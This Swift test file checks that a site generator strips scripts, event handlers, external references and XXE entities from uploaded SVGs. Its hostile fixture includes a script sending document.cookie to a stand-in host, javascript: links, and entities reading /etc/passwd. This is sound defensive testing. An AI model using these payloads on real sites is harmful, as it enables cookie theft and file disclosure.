import Foundation
import HubModel
import HubSite
import Testing
import HubTestSupport

/// An SVG runs script on the site's own origin if it can: the published copy keeps the drawing and
/// loses every script, event handler, `foreignObject` and reference to anything outside the file.
@Suite struct SVGPublishingTests {
    static let hostile = """
        <?xml version="1.0" encoding="UTF-8"?>
        <?xml-stylesheet href="https://evil.example/sheet.css" type="text/css"?>
        <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
          <!ENTITY brand "Test Shire">
        ]>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:svg="http://www.w3.org/2000/svg"
             xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" viewBox="0 0 100 100" onload="alert('load')" sodipodi:docname="x.svg">
          <metadata><rdf>Drawn by Jane Realname</rdf></metadata>
          <title>&brand; chart</title>
          <script>alert('script')</script>
          <svg:script>alert('prefixed')</svg:script>
          <script type="text/javascript"><![CDATA[ fetch('https://evil.example/steal?' + document.cookie) ]]></script>
          <defs>
            <linearGradient id="grad"><stop offset="0" stop-color="#1d70b8"/><stop offset="1" stop-color="#fff"/></linearGradient>
            <circle id="dot" r="3"/>
          </defs>
          <style>@import url("https://evil.example/x.css"); rect { fill: red; }</style>
          <style>.safe { stroke: url(#grad); }</style>
          <rect class="safe" width="100" height="50" fill="url(#grad)" onclick="alert('click')" OnMouseOver="alert(2)"/>
          <rect width="10" height="10" style="background: url(https://evil.example/track.png)" fill="url('https://evil.example/p.svg#p')"/>
          <use href="#dot" x="50" y="70"/>
          <use xlink:href="https://evil.example/sprite.svg#icon"/>
          <use href="other.svg#a"/>
          <image href="https://evil.example/pixel.png" width="1" height="1"/>
          <a xlink:href="&#106;avascript:alert('link')"><text x="5" y="90">Read more &amp; more</text></a>
          <a href="https://example.org/"><text>External</text></a>
          <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>
          <set attributeName="href" to="javascript:alert('set')"/>
          <animate attributeName="onclick" to="alert('animate')"/>
          <animate attributeName="opacity" from="0" to="1" dur="1s"/>
          <handler type="text/ecmascript">alert('handler')</handler>
        </svg>
        """

    static func hub(svg: String) throws -> FixtureHub {
        var files = TestShire.standardFiles
        files["briefs/chart.md"] = TestShire.brief(title: "A brief with a chart", body: "## Chart\n\n![A chart](../assets/chart.svg)\n")
        let hub = try FixtureHub.testShire(files)
        try hub.write("assets/chart.svg", svg)
        return hub
    }

    @Test func aHostileSVGIsPublishedWithoutAnythingThatRunsOrFetches() throws {
        let hub = try Self.hub(svg: Self.hostile)
        let report = hub.build()
        #expect(report.succeeded, "\(report.diagnostics)")
        let published = try #require(hub.page("assets/chart.svg"))
        for forbidden in ["script", "alert", "onload", "onclick", "mouseover", "foreignObject", "iframe", "evil.example",
                          "javascript", "@import", "other.svg", "example.org", "handler", "Jane Realname", "sodipodi", "<set", "stylesheet"] {
            #expect(!published.lowercased().contains(forbidden.lowercased()), "'\(forbidden)' is in the published SVG:\n\(published)")
        }
        for kept in ["<linearGradient id=\"grad\">", "fill=\"url(#grad)\"", "<use href=\"#dot\" x=\"50\" y=\"70\"/>",
                     ".safe { stroke: url(#grad); }", "Read more &amp; more", "<title>Test Shire chart</title>",
                     "attributeName=\"opacity\"", "xmlns=\"http://www.w3.org/2000/svg\""] {
            #expect(published.contains(kept), "'\(kept)' is missing from the published SVG:\n\(published)")
        }
        let warning = try #require(report.diagnostics.first { $0.location.path.hasSuffix("assets/chart.svg") })
        #expect(warning.severity == .warning)
        #expect(warning.message.hasPrefix("removed from the published copy, as it could run script or fetch from elsewhere: "))
        #expect(warning.message.contains("<script> (line 10)"), "\(warning.message)")
        // The published file is well-formed XML, as a tool that is not the generator reads it.
        let parsed = try Self.python("import sys, xml.etree.ElementTree as E; r = E.parse(sys.argv[1]).getroot(); print(r.tag)",
                                     hub.output.appendingPathComponent("assets/chart.svg").path)
        #expect(parsed == "{http://www.w3.org/2000/svg}svg\n")
    }

    @Test func theSanitisedSVGIsStableWhenPublishedAgain() throws {
        let hub = try Self.hub(svg: Self.hostile)
        #expect(hub.build().succeeded)
        let first = try #require(hub.page("assets/chart.svg"))
        try hub.write("assets/chart.svg", first)
        let report = hub.build()
        #expect(report.succeeded)
        #expect(hub.page("assets/chart.svg") == first)
        #expect(!report.diagnostics.contains { $0.location.path.hasSuffix("chart.svg") }, "nothing left to remove")
    }

    @Test(arguments: [
        ("<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <rect>\n</svg>\n", 3, "</svg> does not close <rect>"),
        ("<svg>\n<!DOCTYPE x [<!ENTITY ext SYSTEM \"file:///etc/passwd\">]>", 2, "a name was expected"),
        ("<!DOCTYPE svg [<!ENTITY ext SYSTEM \"file:///etc/passwd\">]>\n<svg>&ext;</svg>", 1, "refers to another file"),
        ("<!DOCTYPE svg [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;\">]>\n<svg>&b;</svg>", 1, "holds markup or other entities"),
        ("<svg>\n  <text>&nbsp;</text>\n</svg>", 2, "the entity '&nbsp;' is not declared"),
        ("<html><body>not a drawing</body></html>", 1, "the file's root element is <html>, not <svg>"),
        ("<svg><rect x=\"1\" x=\"2\"/></svg>", 1, "the attribute 'x' is given twice"),
    ])
    func anSVGThatCannotBeReadIsALocatedError(svg: String, line: Int, message: String) throws {
        let hub = try Self.hub(svg: svg)
        let report = hub.build()
        #expect(!report.succeeded)
        let error = try #require(report.diagnostics.first { $0.severity == .error })
        #expect(error.location.path.hasSuffix("assets/chart.svg") && error.location.line == line, "\(error)")
        #expect(error.message.contains(message), "\(error)")
        #expect(error.hint?.isEmpty == false)
    }

    @Test func anEmbeddedPhotoInAnSVGLosesItsMetadataToo() throws {
        guard ImageTools.available else { return }
        let folder = URL(fileURLWithPath: try ScratchFolder.make("svg-photo"))
        defer { try? FileManager.default.removeItem(at: folder) }
        try ImageTools.photo(at: folder.appendingPathComponent("photo.jpg"))
        let photo = try Data(contentsOf: folder.appendingPathComponent("photo.jpg")).base64EncodedString()
        let hub = try Self.hub(svg: "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"data:image/jpeg;base64,\(photo)\"/></svg>")
        let report = hub.build()
        #expect(report.succeeded, "\(report.diagnostics)")
        let published = try #require(hub.page("assets/chart.svg"))
        let start = try #require(published.range(of: "base64,"))
        let embedded = try #require(Data(base64Encoded: String(published[start.upperBound...].prefix { $0 != "\"" })))
        #expect(embedded.starts(with: [0xFF, 0xD8]))
        #expect(embedded.range(of: Data("Jane Realname".utf8)) == nil)
    }

    /// The output of a Python program run with `argument`.
    static func python(_ program: String, _ argument: String) throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        process.arguments = ["-c", program, argument]
        let output = Pipe()
        process.standardOutput = output
        try process.run()
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return String(decoding: data, as: UTF8.self)
    }
}
